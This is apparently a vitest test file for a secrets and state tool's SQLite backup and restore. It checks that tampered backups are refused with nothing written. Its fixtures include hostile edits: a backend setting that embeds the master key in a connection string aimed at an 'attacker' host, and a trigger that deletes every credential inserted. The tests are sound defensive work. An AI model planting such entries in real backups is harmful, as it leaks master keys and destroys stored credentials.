// `state backup` / `state restore` of the SQLite store against a hostile backup file: one edited
// without the key (rows, header, SCIM image, objects a restore would carry along) is refused
// with nothing written, and a restore under a live connection keeps that connection's writes.
import Database from 'better-sqlite3';
import { spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, rmSync, statSync } from 'node:fs';
import { createServer } from 'node:net';
import { hostname, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, expect, test } from 'vitest';
import { workspace } from '../support/cli.js';
import type { Change } from '../../src/core/types.js';
import { scimTables } from '../../src/scim/store/backup.js';
import { SqliteScimStore } from '../../src/scim/store/sqlite.js';
import { backupSqlite, restoreSqlite } from '../../src/store/backup.js';
import { MasterKey } from '../../src/store/crypto.js';
import { statePaths, type StatePaths } from '../../src/store/open.js';
import { SqliteStore } from '../../src/store/sqlite.js';

const cleanups: (() => void)[] = [];
afterEach(() => cleanups.splice(0).forEach((f) => f()));

function scratch(): string {
  const d = mkdtempSync(join(tmpdir(), 'dg-backup-'));
  cleanups.push(() => rmSync(d, { recursive: true, force: true }));
  return d;
}

const now = () => new Date().toISOString();
const credential = (principal: string, id: string) => ({ address: `aws:key/${principal}`, credentialId: id, backend: 'aws', principal, createdAt: now() });

/** A state with a credential, an applied object, a journal, an audit chain and a SCIM user, and its backup. */
async function backedUp(): Promise<{ dir: string; paths: StatePaths; key: MasterKey; file: string }> {
  const dir = scratch();
  const paths = statePaths(join(dir, 'state'));
  const key = MasterKey.parse(MasterKey.generate());
  const store = new SqliteStore(paths.db, key);
  await store.setInstallation('source-installation');
  await store.saveCredential(credential('bob', 'AKIABOB'), { secretAccessKey: 'bob-secret' });
  await store.setApplied('aws:user/bob', 'h1');
  const change: Change = { address: 'aws:user/bob', backend: 'aws', kind: 'user', action: 'create', before: null, after: null, drift: false, reason: 'test' };
  await store.journalEnd(await store.journalBegin('run-1', change, now()), 'ok', now());
  await store.audit({ actor: 'test', event: 'test.one', address: null, outcome: 'ok', detail: null }, now());
  const scim = new SqliteScimStore(paths.scimDb);
  await scim.create('User', { userName: 'carol@example.com', active: true });
  await scim.close();
  const file = join(dir, 'state.backup');
  await backupSqlite(store.db, paths, file, key, { force: false, now: new Date() });
  await store.close();
  return { dir, paths, key, file };
}

const restore = (file: string, paths: StatePaths, key: MasterKey, force = false) => restoreSqlite(file, paths, key, { force, scim: scimTables });

function edit(file: string, change: (db: Database.Database) => void): void {
  const db = new Database(file);
  try {
    change(db);
  } finally {
    db.close();
  }
}

/** The backup's SCIM image with one more user in it. */
function withScimUser(db: Database.Database): void {
  const image = new Database((db.prepare("SELECT value FROM datagrant_backup WHERE key = 'scim'").get() as { value: Buffer }).value);
  image
    .prepare('INSERT INTO scim_users (id, unique_key, created, last_modified, version, attrs) VALUES (?, ?, ?, ?, 1, ?)')
    .run('mallory', 'mallory@example.com', now(), now(), JSON.stringify({ userName: 'mallory@example.com' }));
  db.prepare("UPDATE datagrant_backup SET value = ? WHERE key = 'scim'").run(image.serialize());
  image.close();
}

const EDITS: [string, (db: Database.Database) => void][] = [
  [
    'a removed backend whose fromEnv names the master key',
    (db) =>
      db
        .prepare('INSERT INTO backends (name, type, settings) VALUES (?, ?, ?)')
        .run('old', 'postgres', JSON.stringify({ url: 'postgres://x@127.0.0.1:1/db', fromEnv: { url: 'postgres://${DATAGRANT_MASTER_KEY}@attacker/db' } })),
  ],
  ['an applied row', (db) => db.prepare('INSERT INTO applied (address, attrs_hash) VALUES (?, ?)').run('aws:user/mallory', 'h')],
  [
    'a pending journal slot',
    (db) =>
      db.prepare("INSERT INTO journal (run_id, address, action, started_at, outcome) VALUES ('run-2', 'aws:user/alice', 'delete', ?, 'pending')").run(now()),
  ],
  ['the installation id', (db) => db.prepare("UPDATE meta SET value = 'another-installation' WHERE key = 'installation'").run()],
  ['a credential removed', (db) => db.prepare('DELETE FROM credentials').run()],
  ['an integer stored as text', (db) => db.prepare("UPDATE journal SET finished_at = 1 WHERE run_id = 'run-1'").run()],
  ['a table dropped', (db) => db.exec('DROP TABLE applied')],
  ['a SCIM user added to the image', withScimUser],
  ['when it was taken', (db) => db.prepare("UPDATE datagrant_backup SET value = '2000-01-01T00:00:00.000Z' WHERE key = 'taken_at'").run()],
];

test.each(EDITS)('a backup edited without the key (%s) is refused, and nothing is written', async (_, change) => {
  const { dir, key, file } = await backedUp();
  edit(file, change);
  const target = statePaths(join(dir, 'target'));
  await expect(restore(file, target, key)).rejects.toThrow(
    /the backup .* was changed after it was made: its content does not match its MAC under the master key.*nothing was changed/,
  );
  expect(existsSync(target.db)).toBe(false);
  expect(existsSync(target.scimDb)).toBe(false);
});

test('an unedited backup restores what it holds', async () => {
  const { dir, key, file } = await backedUp();
  const target = statePaths(join(dir, 'target'));
  const info = await restore(file, target, key);
  expect(info).toMatchObject({ installation: 'source-installation', credentials: 1, scim: true, store: 'sqlite' });
  const store = new SqliteStore(target.db, key);
  try {
    expect((await store.revealCredential('aws:key/bob'))?.secret).toEqual({ secretAccessKey: 'bob-secret' });
    expect(await store.applied()).toEqual({ 'aws:user/bob': 'h1' });
    expect(await store.verifyAudit()).toMatchObject({ ok: true });
  } finally {
    await store.close();
  }
  const scim = new SqliteScimStore(target.scimDb);
  expect((await scim.list('User')).map((u) => u.attrs.userName)).toEqual(['carol@example.com']);
  await scim.close();
});

test('a backup without a MAC (made before backups had one) is refused, saying how to make one', async () => {
  const { dir, key, file } = await backedUp();
  edit(file, (db) => db.prepare("DELETE FROM datagrant_backup WHERE key = 'mac'").run());
  const target = statePaths(join(dir, 'target'));
  await expect(restore(file, target, key)).rejects.toThrow(/carries no MAC .*nothing was changed\. Make a new backup with `datagrant state backup`/);
  expect(existsSync(target.db)).toBe(false);
});

test('a backup restored with another key is refused as made under another key', async () => {
  const { dir, file } = await backedUp();
  const target = statePaths(join(dir, 'target'));
  await expect(restore(file, target, MasterKey.parse(MasterKey.generate()))).rejects.toThrow(
    /wrong master key: the backup .* was created with a different master key/,
  );
  expect(existsSync(target.db)).toBe(false);
});

test('a backends row added to a backup never sends the master key anywhere: the restore is refused', async () => {
  const seen: string[] = [];
  const listener = createServer((socket) => {
    socket.on('data', (d) => {
      seen.push(d.toString('latin1'));
      socket.destroy();
    });
  });
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', () => r()));
  cleanups.push(() => listener.close());
  const port = (listener.address() as { port: number }).port;
  const key = MasterKey.generate();
  const spec = 'version: 1\nbackends: { pg: { type: postgres, url: "postgres://dg@127.0.0.1:1/db" } }\n';

  const source = workspace({ DATAGRANT_MASTER_KEY: key });
  cleanups.push(() => source.cleanup());
  source.writeSpec(spec);
  expect((await source.run('init')).code).toBe(0);
  const file = join(scratch(), 'state.backup');
  const made = await source.run('state', 'backup', file);
  expect(made.code, made.stderr).toBe(0);
  // Write access to the backup, no key.
  edit(file, (db) =>
    db
      .prepare('INSERT INTO backends (name, type, settings) VALUES (?, ?, ?)')
      .run(
        'old',
        'postgres',
        JSON.stringify({ url: 'postgres://x@127.0.0.1:1/db', fromEnv: { url: `postgres://\${DATAGRANT_MASTER_KEY}@127.0.0.1:${port}/db` } }),
      ),
  );

  const target = workspace({ DATAGRANT_MASTER_KEY: key });
  cleanups.push(() => target.cleanup());
  target.writeSpec(spec);
  const restored = await target.run('state', 'restore', file);
  expect(restored.code).toBe(1);
  expect(restored.stderr).toMatch(/was changed after it was made.*nothing was changed/);
  expect(existsSync(join(target.dir, '.datagrant/state.db'))).toBe(false);
  await target.run('plan');
  expect(seen.join('')).not.toContain(key);
});

const objects = (file: string) => {
  const db = new Database(file, { readonly: true });
  try {
    return (db.prepare("SELECT type, name FROM sqlite_master WHERE type IN ('trigger', 'view')").all() as { type: string; name: string }[]).map((o) => o.name);
  } finally {
    db.close();
  }
};

test.each([
  [
    'a trigger that deletes every credential inserted',
    'CREATE TRIGGER eat AFTER INSERT ON credentials BEGIN DELETE FROM credentials WHERE address = NEW.address; END',
    /trigger eat on credentials/,
  ],
  ['a view', 'CREATE VIEW everything AS SELECT * FROM credentials', /view everything/],
  ['a table of its own', 'CREATE TABLE extra (x)', /table extra/],
  ['an index of its own', 'CREATE INDEX by_principal ON credentials (principal)', /index by_principal on credentials/],
])('a backup holding %s is refused whole, and nothing is written', async (_, ddl, named) => {
  const { dir, key, file } = await backedUp();
  edit(file, (db) => db.exec(ddl));
  const target = statePaths(join(dir, 'target'));
  const refused = restore(file, target, key);
  await expect(refused).rejects.toThrow(/the backup .* holds objects datagrant does not make .*nothing was changed/);
  await expect(refused).rejects.toThrow(named);
  expect(existsSync(target.db)).toBe(false);
});

test('restore --force over the state it was taken from puts its rows back into tables datagrant made, and the state works on', async () => {
  const { paths, key, file } = await backedUp();
  const restored = await restore(file, paths, key, true);
  expect(restored.credentials).toBe(1);
  expect(objects(paths.db)).toEqual([]);
  const store = new SqliteStore(paths.db, key);
  try {
    await store.saveCredential(credential('alice', 'AKIANEW'), { secretAccessKey: 'alice-secret' });
    expect((await store.credentials()).map((c) => c.credentialId).sort()).toEqual(['AKIABOB', 'AKIANEW']);
    expect(await store.verifyAudit()).toMatchObject({ ok: true });
  } finally {
    await store.close();
  }
});

test('restore --force under a live connection (an idle serve): its later writes land in the restored state', async () => {
  const { paths, key, file } = await backedUp();
  // Open as serve keeps them between reconciles.
  const live = new SqliteStore(paths.db, key);
  const liveScim = new SqliteScimStore(paths.scimDb);
  cleanups.push(
    () => void live.close(),
    () => void liveScim.close(),
  );
  await live.setApplied('aws:user/after-backup', 'h2');
  await liveScim.create('User', { userName: 'dave@example.com', active: true });

  await restore(file, paths, key, true);
  // What was written since the backup is replaced (that is what --force means)...
  expect(await live.applied()).toEqual({ 'aws:user/bob': 'h1' });
  expect((await liveScim.list('User')).map((u) => u.attrs.userName)).toEqual(['carol@example.com']);
  // ...and what the live process writes after it is kept: a credential it just issued at a backend.
  await live.saveCredential(credential('alice', 'AKIANEW'), { secretAccessKey: 'alice-secret' });
  await live.audit({ actor: 'serve', event: 'test.after', address: null, outcome: 'ok', detail: null }, now());
  await liveScim.create('User', { userName: 'erin@example.com', active: true });

  const fresh = new SqliteStore(paths.db, key);
  const freshScim = new SqliteScimStore(paths.scimDb);
  try {
    expect((await fresh.credentials()).map((c) => c.credentialId).sort()).toEqual(['AKIABOB', 'AKIANEW']);
    expect((await fresh.revealCredential('aws:key/alice'))?.secret).toEqual({ secretAccessKey: 'alice-secret' });
    expect((await fresh.auditEntries()).map((e) => e.event)).toContain('test.after');
    expect(await fresh.verifyAudit()).toMatchObject({ ok: true });
    expect((await freshScim.list('User')).map((u) => u.attrs.userName).sort()).toEqual(['carol@example.com', 'erin@example.com']);
  } finally {
    await fresh.close();
    await freshScim.close();
  }
});

test('restore refuses a state whose lock another live process holds, and changes nothing', async () => {
  const { paths, key, file } = await backedUp();
  const holder = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 60000)'], { stdio: 'ignore' });
  cleanups.push(() => holder.kill());
  const db = new Database(paths.db);
  db.prepare('INSERT INTO locks (name, holder, pid, host, acquired_at, heartbeat_at) VALUES (?, ?, ?, ?, ?, ?)').run(
    'state',
    'apply',
    holder.pid,
    hostname(),
    now(),
    Date.now(),
  );
  db.prepare("INSERT INTO applied (address, attrs_hash) VALUES ('aws:user/kept', 'h')").run();
  db.close();
  await expect(restore(file, paths, key, true)).rejects.toThrow(/is in use by apply \(pid \d+ on .*\); stop it before restoring over it; nothing was changed/);
  const store = new SqliteStore(paths.db, key);
  try {
    expect(await store.applied()).toEqual({ 'aws:user/bob': 'h1', 'aws:user/kept': 'h' });
  } finally {
    await store.close();
  }
});

test('the backup is 0600 from its first byte: the copy being written too', async () => {
  const dir = scratch();
  const paths = statePaths(join(dir, 'state'));
  const key = MasterKey.parse(MasterKey.generate());
  const store = new SqliteStore(paths.db, key);
  cleanups.push(() => void store.close());
  // Large enough that SQLite's backup copies it in several steps (100 pages each).
  const fill = store.db.prepare('INSERT INTO applied (address, attrs_hash) VALUES (?, ?)');
  store.db.transaction(() => {
    for (let i = 0; i < 2000; i++) fill.run(`aws:user/u${i}`, 'h'.repeat(1000));
  })();
  const file = join(dir, 'state.backup');
  const made = backupSqlite(store.db, paths, file, key, { force: false, now: new Date() });
  let done = false;
  void made.finally(() => (done = true));
  // The copy's mode as soon as it is on disk, while SQLite goes on writing into it.
  let mode: number | undefined;
  while (!done && mode === undefined) {
    const copy = readdirSync(dir).find((f) => f.endsWith('.tmp'));
    if (copy !== undefined) mode = statSync(join(dir, copy)).mode & 0o777;
    await new Promise((r) => setImmediate(r));
  }
  await made;
  expect(mode).toBe(0o600);
  expect(statSync(file).mode & 0o777).toBe(0o600);
});

test('a restore the state cannot take leaves scim.db as it was too', async () => {
  const { paths, key, file } = await backedUp();
  // A decision whose review the backup does not hold (written past SQLite's foreign-key check).
  const source = new SqliteStore(paths.db, key);
  source.db.pragma('foreign_keys = OFF');
  source.db
    .prepare(
      "INSERT INTO review_decisions (review, row_id, reviewer, actor, decision, reason, decided_at, self_review, audit_seq) VALUES ('gone', 'r', 'x', 'x', 'keep', 'fine', ?, 0, 1)",
    )
    .run(now());
  const broken = join(paths.dir, '..', 'broken.backup');
  await backupSqlite(source.db, paths, broken, key, { force: false, now: new Date() });
  await source.close();
  // The state since: a restore of `broken` over it must keep all of it.
  await restore(file, paths, key, true);
  const scim = new SqliteScimStore(paths.scimDb);
  await scim.create('User', { userName: 'dave@example.com', active: true });
  await scim.close();

  await expect(restore(broken, paths, key, true)).rejects.toThrow(
    /the backup's review_decisions names rows of reviews that it does not hold; nothing was changed/,
  );
  const after = new SqliteScimStore(paths.scimDb);
  try {
    expect((await after.list('User')).map((u) => u.attrs.userName).sort()).toEqual(['carol@example.com', 'dave@example.com']);
  } finally {
    await after.close();
  }
});
